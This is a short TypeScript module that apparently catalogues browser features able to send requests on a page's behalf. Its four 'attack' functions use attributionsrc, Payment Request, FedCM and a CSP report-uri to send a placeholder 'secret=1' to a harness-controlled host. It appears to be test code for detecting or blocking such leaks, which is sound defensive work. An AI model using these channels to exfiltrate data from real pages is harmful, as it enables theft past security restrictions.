import type { Channel } from "./channel.ts";

/** Browser features that fetch on a page's behalf. */
export const FEATURES: readonly Channel[] = [
  {
    id: "attributionsrc",
    family: "feature",
    entry: 27,
    attack: (t) => t.markup(`<img attributionsrc="${t.base}/attribution?secret=1" src="data:,">`),
  },
  {
    id: "payment_manifest",
    family: "feature",
    entry: 27,
    attack: (t) => {
      const methods = [{ supportedMethods: `${t.site}/pay?secret=1` }];
      const total = { label: "x", amount: { currency: "EUR", value: "1" } };
      return new PaymentRequest(methods, { total }).canMakePayment();
    },
  },
  {
    id: "fedcm",
    family: "feature",
    entry: 27,
    attack: (t) => {
      const providers = [{ configURL: `${t.site}/fedcm.json`, clientId: "secret" }];
      return navigator.credentials.get({ identity: { providers } } as CredentialRequestOptions);
    },
  },
  {
    id: "csp_report_meta",
    family: "feature",
    entry: 29,
    attack: (t) => {
      t.element("meta", {
        "http-equiv": "Content-Security-Policy",
        content: `img-src 'none'; report-uri ${t.base}/report?secret=1`,
      });
      new Image().src = "data:image/gif;base64,AA";
    },
  },
];
